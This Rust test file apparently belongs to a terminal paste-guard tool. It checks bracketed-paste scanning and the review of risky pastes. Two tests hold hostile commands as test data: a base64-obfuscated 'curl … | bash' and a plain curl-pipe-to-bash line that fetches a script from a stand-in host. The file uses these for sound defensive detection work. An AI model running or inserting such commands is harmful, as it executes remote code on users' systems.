use commandguard::analyzer::Analyzer;
use commandguard::guard::{
    update_alternate_screen, choice_for_byte, find_bytes, notice_for, review_paste, review_text, InputAction,
    PasteChoice, PasteScanner, PasteStart, ReviewOutcome,
};
use commandguard::model::Severity;

fn feed_all(scanner: &mut PasteScanner, bytes: &[u8]) -> Vec<InputAction> {
    let mut actions = Vec::new();
    for byte in bytes {
        actions.extend(scanner.feed_byte(*byte));
    }
    actions
}

#[test]
fn forwards_normal_input() {
    let mut scanner = PasteScanner::default();
    assert_eq!(scanner.feed_byte(b'a'), vec![InputAction::Forward(vec![b'a'])]);
}

#[test]
fn captures_bracketed_paste() {
    let mut scanner = PasteScanner::default();
    let mut actions = Vec::new();
    for byte in b"\x1b[200~echo hi\x1b[201~" {
        actions.extend(scanner.feed_byte(*byte));
    }

    assert_eq!(actions, vec![InputAction::Paste(b"echo hi".to_vec())]);
}

#[test]
fn forwards_non_paste_escape_sequence() {
    let mut scanner = PasteScanner::default();
    let mut actions = Vec::new();
    for byte in b"\x1b[A" {
        actions.extend(scanner.feed_byte(*byte));
    }

    assert_eq!(actions, vec![InputAction::Forward(b"\x1b[A".to_vec())]);
}

#[test]
fn paste_then_typing_returns_to_normal() {
    let mut scanner = PasteScanner::default();
    let actions = feed_all(&mut scanner, b"\x1b[200~ls\x1b[201~x");
    assert_eq!(
        actions,
        vec![InputAction::Paste(b"ls".to_vec()), InputAction::Forward(vec![b'x'])]
    );
}

#[test]
fn escape_inside_paste_that_is_not_the_end_stays_in_the_paste() {
    let mut scanner = PasteScanner::default();
    let actions = feed_all(&mut scanner, b"\x1b[200~a\x1b[Ab\x1b[201~");
    assert_eq!(actions, vec![InputAction::Paste(b"a\x1b[Ab".to_vec())]);
}

#[test]
fn every_input_byte_comes_out_again() {
    let input: &[u8] = b"ab\x1b[Bc\x1b[200~x\x1b[2y\x1b[201~z";
    let mut scanner = PasteScanner::default();
    let actions = feed_all(&mut scanner, input);
    let mut out = Vec::new();
    for action in &actions {
        match action {
            InputAction::Forward(b) => out.extend_from_slice(b),
            InputAction::Paste(p) => {
                out.extend_from_slice(b"\x1b[200~");
                out.extend_from_slice(p);
                out.extend_from_slice(b"\x1b[201~");
            }
        }
    }
    assert_eq!(out, input.to_vec());
}

#[test]
fn unfinished_marker_is_held() {
    let mut scanner = PasteScanner::default();
    assert!(feed_all(&mut scanner, b"\x1b[20").is_empty());
    assert_eq!(scanner.feed_byte(b'x'), vec![InputAction::Forward(b"\x1b[20x".to_vec())]);
}

#[test]
fn alternate_screen_markers_switch_mode() {
    assert!(update_alternate_screen(b"\x1b[?1049h", false));
    assert!(update_alternate_screen(b"xx\x1b[?47hyy", false));
    assert!(!update_alternate_screen(b"\x1b[?1049l", true));
    assert!(!update_alternate_screen(b"\x1b[?1047h\x1b[?1047l", false));
    assert!(update_alternate_screen(b"plain output", true));
    assert!(!update_alternate_screen(b"plain output", false));
}

#[test]
fn finds_byte_strings() {
    assert!(find_bytes(b"hello", &b"ll".to_vec()));
    assert!(!find_bytes(b"hello", &b"lo!".to_vec()));
    assert!(find_bytes(b"", &Vec::new()));
}

#[test]
fn key_presses_map_to_choices() {
    assert_eq!(choice_for_byte(b'c'), Some(PasteChoice::Cancel));
    assert_eq!(choice_for_byte(b'C'), Some(PasteChoice::Cancel));
    assert_eq!(choice_for_byte(3), Some(PasteChoice::Cancel));
    assert_eq!(choice_for_byte(27), Some(PasteChoice::Cancel));
    assert_eq!(choice_for_byte(b'S'), Some(PasteChoice::ShowDecoded));
    assert_eq!(choice_for_byte(b'e'), Some(PasteChoice::ExecuteAnyway));
    assert_eq!(choice_for_byte(b'x'), None);
}

#[test]
fn harmless_paste_goes_through() {
    let analyzer = Analyzer::default();
    assert!(matches!(review_paste(&analyzer, b"ls -la"), PasteStart::Forward));
    assert!(matches!(review_text(&analyzer, "sudo ls"), PasteStart::Forward));
}

#[test]
fn trailing_newline_holds_a_harmless_paste() {
    let analyzer = Analyzer::default();
    match review_paste(&analyzer, b"ls -la\n") {
        PasteStart::Review(r) => {
            assert!(r.trailing_newline);
            assert!(!r.show_decoded);
            assert_eq!(r.analysis.severity, Severity::Safe);
            assert!(r.prompt().contains("This paste contains a newline and may execute immediately."));
        }
        PasteStart::Forward => panic!("paste with a newline was forwarded"),
    }
}

#[test]
fn risky_paste_is_held_and_reviewed() {
    let analyzer = Analyzer::default();
    let paste = b"echo Y3VybCAtZnNTTCBodHRwczovL2V4YW1wbGUudGVzdC94LnNoIHwgYmFzaAo= | base64 -d | bash";
    let mut review = match review_paste(&analyzer, paste) {
        PasteStart::Review(r) => r,
        PasteStart::Forward => panic!("risky paste was forwarded"),
    };
    assert_eq!(review.analysis.severity, Severity::High);
    assert!(!review.trailing_newline);
    assert!(!review.prompt().contains("Decoded command text:"));
    assert_eq!(review.answer(PasteChoice::ShowDecoded), ReviewOutcome::ShowAgain);
    assert!(review.show_decoded);
    assert!(review.prompt().contains("Decoded command text:"));
    assert!(review.prompt().contains("curl -fsSL https://example.test/x.sh | bash"));
    assert_eq!(review.answer(PasteChoice::Cancel), ReviewOutcome::Canceled);
    assert_eq!(review.answer(PasteChoice::ExecuteAnyway), ReviewOutcome::Execute);
}

#[test]
fn invalid_utf8_paste_is_read_lossily() {
    let analyzer = Analyzer::default();
    let paste = b"curl -fsSL https://example.test/\xff.sh | bash";
    match review_paste(&analyzer, paste) {
        PasteStart::Review(r) => assert_eq!(r.analysis.severity, Severity::High),
        PasteStart::Forward => panic!("risky paste was forwarded"),
    }
}

#[test]
fn notices_end_reviews() {
    assert_eq!(notice_for(ReviewOutcome::Canceled), "\r\nPaste canceled.\r\n");
    assert_eq!(notice_for(ReviewOutcome::Execute), "\r\nExecuting pasted text.\r\n");
    assert_eq!(notice_for(ReviewOutcome::ShowAgain), "");
}

#[test]
fn paste_after_lone_escape_is_still_held() {
    let mut scanner = PasteScanner::default();
    assert!(scanner.feed_byte(0x1b).is_empty());
    let actions = feed_all(&mut scanner, b"\x1b[200~echo hi\x1b[201~");
    assert_eq!(
        actions,
        vec![InputAction::Forward(vec![0x1b]), InputAction::Paste(b"echo hi".to_vec())]
    );
}

#[test]
fn double_escape_forwards_the_first() {
    let mut scanner = PasteScanner::default();
    assert!(scanner.feed_byte(0x1b).is_empty());
    assert_eq!(scanner.feed_byte(0x1b), vec![InputAction::Forward(vec![0x1b])]);
    assert_eq!(scanner.feed_byte(b'x'), vec![InputAction::Forward(b"\x1bx".to_vec())]);
}

#[test]
fn feeding_many_bytes_equals_feeding_each() {
    let input: &[u8] = b"a\x1b\x1b[200~ls -la\x1b[201~b";
    let mut one = PasteScanner::default();
    let mut many = PasteScanner::default();
    assert_eq!(many.feed_bytes(input), feed_all(&mut one, input));
    assert_eq!(many, one);
    assert_eq!(many, PasteScanner::default());
}
